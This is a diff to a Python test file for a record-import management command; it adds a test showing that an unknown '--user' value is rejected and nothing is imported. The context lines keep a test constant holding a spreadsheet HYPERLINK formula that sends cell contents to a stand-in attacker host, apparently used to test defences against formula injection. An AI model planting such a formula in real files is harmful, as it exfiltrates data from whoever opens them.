@@ -55,6 +55,7 @@ MODELS = {
 # cells away when the file is opened.
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 USER_REQUIRED = "Error: the following arguments are required: --user"
+NO_SUCH_USER = "There is no user {}."
 
 
 @pytest.fixture
@@ -813,6 +814,15 @@ def test_import_records_needs_the_user_who_imports(admin_user, sheet):
     status, out, err = run("import_records", "products", sheet("SKU,Name\nSALT,Salt\n"))
 
     assert (status, out, err) == (1, "", USER_REQUIRED)
+    assert not Product.objects.filter(sku="SALT").exists()
+
+
+def test_import_records_refuses_an_unknown_user(admin_user, sheet):
+    status, _out, err = run(
+        "import_records", "products", sheet("SKU,Name\nSALT,Salt\n"), "--user", "nobody"
+    )
+
+    assert (status, err) == (1, NO_SUCH_USER.format("nobody"))
     assert not Product.objects.filter(sku="SALT").exists()
 
 
